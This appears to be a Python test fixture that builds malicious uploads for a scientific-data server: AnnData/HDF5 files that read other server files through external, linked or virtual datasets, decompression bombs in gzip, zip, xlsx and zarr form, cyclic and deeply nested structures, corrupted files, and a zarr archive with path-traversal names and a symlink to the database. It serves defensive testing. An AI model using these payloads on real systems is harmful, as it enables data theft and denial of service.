"""Files that attack who reads them: what tries to crash, to fill the memory, to hang, to steal."""

from __future__ import annotations

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import h5py
import numpy as np

MEGA = 1 << 20


@dataclass(frozen=True)
class Attack:
    """A file by its format; ``steals`` where it points at another file of the server."""

    name: str
    data_format: str
    make: Callable[[Path, Path], bytes]
    steals: bool = False


def annotated(folder: Path, change: Callable[[Any], None]) -> bytes:
    """Give a small AnnData file after a change of its parts."""
    import anndata
    import pandas as pd

    path = folder / "attack.h5ad"
    adata = anndata.AnnData(
        np.ones((60, 3), "float32"),
        obs=pd.DataFrame({"score": np.arange(60.0)}, index=[f"cell{i}" for i in range(60)]),
    )
    adata.obsm["X_umap"] = np.ones((60, 2))
    adata.write_h5ad(path)
    with h5py.File(path, "r+") as file:
        change(file)
    found = path.read_bytes()
    path.unlink()
    return found


def of_annotated(
    change: Callable[[Any, Path], None],
) -> Callable[[Path, Path], bytes]:
    return lambda folder, victim: annotated(folder, lambda file: change(file, victim))


def external_bytes(file: Any, victim: Path) -> None:
    """Let a column be the bytes of the server's own database."""
    del file["obs/score"]
    size = 60 * 128
    made = file["obs"].create_dataset("score", (60,), "S128", external=[(str(victim), 0, size)])
    made.attrs["encoding-type"], made.attrs["encoding-version"] = "array", "0.2.0"


def external_link(file: Any, victim: Path) -> None:
    del file["obs/score"]
    file["obs/score"] = h5py.ExternalLink(str(victim.with_name("secret.h5")), "/word")


def virtual(file: Any, victim: Path) -> None:
    del file["obsm/X_umap"]
    layout = h5py.VirtualLayout((60, 2), "f8")
    layout[:] = h5py.VirtualSource(str(victim.with_name("secret.h5")), "numbers", (60, 2))
    file["obsm"].create_virtual_dataset("X_umap", layout)


def petabyte(file: Any, _victim: Path) -> None:
    del file["obsm/X_umap"], file["X"]
    for parent, name in ((file["obsm"], "X_umap"), (file, "X")):
        made = parent.create_dataset(name, (1 << 44, 8), "f8", chunks=(1 << 16, 8))
        made.attrs["encoding-type"], made.attrs["encoding-version"] = "array", "0.2.0"


def inflating(file: Any, _victim: Path) -> None:
    """Compress 4 GB of zeros into the column that is examined."""
    del file["obs/score"]
    made = file["obs"].create_dataset(
        "score", (60,), "S100000000", chunks=(4,), compression="gzip", compression_opts=9
    )
    small = zlib.compress(bytes(4 * MEGA), 9)
    for start in range(0, 60, 4):
        made.id.write_direct_chunk((start,), small)
    made.attrs["encoding-type"], made.attrs["encoding-version"] = "string-array", "0.2.0"


def cyclic(file: Any, _victim: Path) -> None:
    file["uns/again"] = file["/"]
    file["uns/down"] = h5py.SoftLink("/uns/down")
    file["layers/again"] = file["layers"]


def deep(file: Any, _victim: Path) -> None:
    group = file["uns"]
    for _ in range(1500):
        group = group.create_group("d")
        group.attrs["encoding-type"], group.attrs["encoding-version"] = "dict", "0.1.0"


def truncated(folder: Path, _victim: Path) -> bytes:
    whole = annotated(folder, lambda file: None)
    return whole[: len(whole) // 2]


def flipped(folder: Path, _victim: Path) -> bytes:
    found = np.frombuffer(annotated(folder, lambda file: None), np.uint8).copy()
    rng = np.random.default_rng(7)
    found[rng.integers(96, len(found), 300)] ^= rng.integers(1, 256, 300, dtype=np.uint8)
    return found.tobytes()


def gzipped(start: bytes, block: bytes, times: int) -> Callable[[Path, Path], bytes]:
    """Give few members of gzip that unpack to ``times`` blocks."""
    return lambda _folder, _victim: gzip.compress(start) + gzip.compress(block, 6) * times


def zipped(*members: tuple[str, bytes, int]) -> Callable[[Path, Path], bytes]:
    """Give a zip of members, each of which is some bytes, repeated."""

    def make(_folder: Path, _victim: Path) -> bytes:
        target = io.BytesIO()
        with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
            for name, data, times in members:
                with archive.open(name, "w", force_zip64=True) as member:
                    for _ in range(times):
                        member.write(data)
        return target.getvalue()

    return make


def workbook(folder: Path, victim: Path) -> bytes:
    """Give a workbook whose one sheet unpacks to 400 MB."""
    import openpyxl

    plain = io.BytesIO()
    openpyxl.Workbook().save(plain)
    sheet = "xl/worksheets/sheet1.xml"
    with zipfile.ZipFile(plain) as archive:
        others = [(n, archive.read(n), 1) for n in archive.namelist() if n != sheet]
        head, _, tail = archive.read(sheet).partition(b"<sheetData")
    rows = b"<row><c><v>1</v></c></row>" * 40_000
    start, end = head + b"<sheetData>", b"</sheetData>" + tail.partition(b"/>")[2]
    bomb = zipped(*others, (sheet, start + rows * 400 + end, 1))
    return bomb(folder, victim)


def lying_bcf(_folder: Path, _victim: Path) -> bytes:
    """Announce a header of 4 GB and records of 2 GB."""
    head = b"BCF\2\2" + struct.pack("<I", 0xFFFF_FFF0) + b"##fileformat=VCFv4.2\n"
    return gzip.compress(head + struct.pack("<II", 0x7FFF_FFFF, 0x7FFF_FFFF) + bytes(1000))


def linked_zarr(_folder: Path, victim: Path) -> bytes:
    """Name members outside of the store, and let one be a link to the database."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr(".zgroup", '{"zarr_format": 2}')
        archive.writestr(".zattrs", '{"encoding-type": "anndata", "encoding-version": "0.1.0"}')
        archive.writestr("../../../../../../escaped", "escaped")
        archive.writestr("/escaped", "escaped")
        link = zipfile.ZipInfo("obs/score/0")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, str(victim))
    return target.getvalue()


VCF = b"##fileformat=VCFv4.2\n#CHROM\tPOS\tID\tREF\tALT\tQUAL\tFILTER\tINFO\tFORMAT"

ATTACKS = (
    Attack("external_bytes", "h5ad", of_annotated(external_bytes), steals=True),
    Attack("external_link", "h5ad", of_annotated(external_link), steals=True),
    Attack("virtual", "h5ad", of_annotated(virtual), steals=True),
    Attack("petabyte", "h5ad", of_annotated(petabyte)),
    Attack("inflating", "h5ad", of_annotated(inflating)),
    Attack("cyclic", "h5ad", of_annotated(cyclic)),
    Attack("deep", "h5ad", of_annotated(deep)),
    Attack("truncated", "h5ad", truncated),
    Attack("flipped", "h5ad", flipped),
    Attack("csv_bomb", "csv+gzip", gzipped(b"a,b\n", b"1,2\n" * (4 * MEGA), 400)),
    Attack("csv_line", "csv+gzip", gzipped(b"a,b\n", b"1" * (16 * MEGA), 400)),
    Attack("csv_columns", "csv", lambda _f, _v: b"," * (8 * MEGA)),
    Attack(
        "gct_bomb",
        "gct+gzip",
        gzipped(b"#1.2\n90000000\t2\nName\tD\ta\tb\n", b"g\td\t1\t2\n" * (2 * MEGA), 200),
    ),
    Attack("gct_shape", "gct", lambda _f, _v: b"#1.3\n999999999\t999999999\t9\t9\nid\n"),
    Attack("vcf_header", "vcf+gzip", gzipped(b"##fileformat=VCFv4.2\n##x=", b"y" * 16 * MEGA, 300)),
    Attack(
        "vcf_samples",
        "vcf+gzip",
        gzipped(VCF, b"".join(b"\ts%07d" % i for i in range(MEGA // 4)), 20),
    ),
    Attack("bcf_lengths", "bcf", lying_bcf),
    Attack("xlsx_bomb", "xlsx", workbook),
    Attack(
        "zarr_bomb",
        "zarr",
        zipped((".zgroup", b'{"zarr_format": 2}', 1), (".zattrs", b" " * MEGA, 1000)),
    ),
    Attack("zarr_links", "zarr", linked_zarr, steals=True),
)
